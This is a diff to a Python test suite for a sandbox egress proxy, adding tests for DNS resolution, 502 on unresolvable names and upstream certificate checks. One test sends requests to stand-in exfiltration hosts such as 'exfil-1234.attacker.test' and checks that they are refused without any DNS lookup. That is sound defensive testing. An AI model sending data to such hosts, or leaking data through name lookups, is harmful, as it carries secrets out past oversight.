@@ -147,10 +147,11 @@ async def _pipe(reader, writer):
 
 
 @contextlib.asynccontextmanager
-async def proxy_and_bridge(tmp_path, upstream, policy=None, secrets=(), phs=None):
+async def proxy_and_bridge(tmp_path, upstream, policy=None, secrets=(), phs=None, resolver=RESOLVER,
+                           bundle=True):
     """A started proxy, and a listener standing in for the agent's: each connection to it becomes
     one open() for sandbox SID. Yields (proxy, "http://127.0.0.1:port" for HTTP(S)_PROXY)."""
-    proxy = EgressProxy(tmp_path, upstream_ca_bundle=upstream["ca"], resolver=RESOLVER)
+    proxy = EgressProxy(tmp_path, upstream_ca_bundle=upstream["ca"] if bundle else None, resolver=resolver)
     await proxy.start()
     if policy is not None:
         proxy.set_policy(SID, policy, list(secrets), phs or {})
@@ -288,6 +289,41 @@ async def test_policy_changes_apply_to_the_next_request_on_an_open_connection(tm
         reader, writer = await proxy.open(SID)
         writer.write(request.encode())
         assert b"sandbox sb-1 has no egress policy" in await reader.read()
+
+
+@run
+async def test_names_are_resolved_once_per_allowed_request_and_never_when_refused(tmp_path, upstream):
+    asked = []
+
+    async def counting(host, port):
+        asked.append(host)
+        return await RESOLVER(host, port)
+
+    async with proxy_and_bridge(tmp_path, upstream, policy_for(upstream), resolver=counting) as (proxy, url):
+        for _ in range(2):
+            assert (await fetch(proxy, url, f"https://secure.test:{upstream['https']}/"))[0] == 200
+        assert (await fetch(proxy, url, f"http://plain.test:{upstream['http']}/"))[0] == 200
+        # a name no rule allows is not looked up at all (DNS would carry it out)
+        assert (await fetch(proxy, url, f"http://exfil-1234.attacker.test:{upstream['http']}/"))[0] == 403
+        assert (await fetch(proxy, url, f"https://exfil-5678.attacker.test:{upstream['https']}/"))[0] == 403
+    # one lookup per request, by the proxy; the connection goes to what was checked (mitmproxy
+    # would resolve again if it were given the name)
+    assert asked == ["secure.test", "secure.test", "plain.test"]
+
+
+@run
+async def test_an_allowed_name_that_does_not_resolve_is_a_502(tmp_path, upstream):
+    async with proxy_and_bridge(tmp_path, upstream, policy_for(upstream, "nowhere.test")) as (proxy, url):
+        status, body = await fetch(proxy, url, "http://nowhere.test/")
+        assert status == 502 and b"cannot resolve nowhere.test" in body
+
+
+@run
+async def test_upstream_certificates_are_verified(tmp_path, upstream):
+    # without the extra bundle the test CA is not trusted: the system store alone does not know it
+    async with proxy_and_bridge(tmp_path, upstream, policy_for(upstream), bundle=False) as (proxy, url):
+        status, body = await fetch(proxy, url, f"https://secure.test:{upstream['https']}/")
+        assert status == 502 and b"certificate verify failed" in body.lower()
 
 
 # --- no domain fronting -------------------------------------------------------------------------
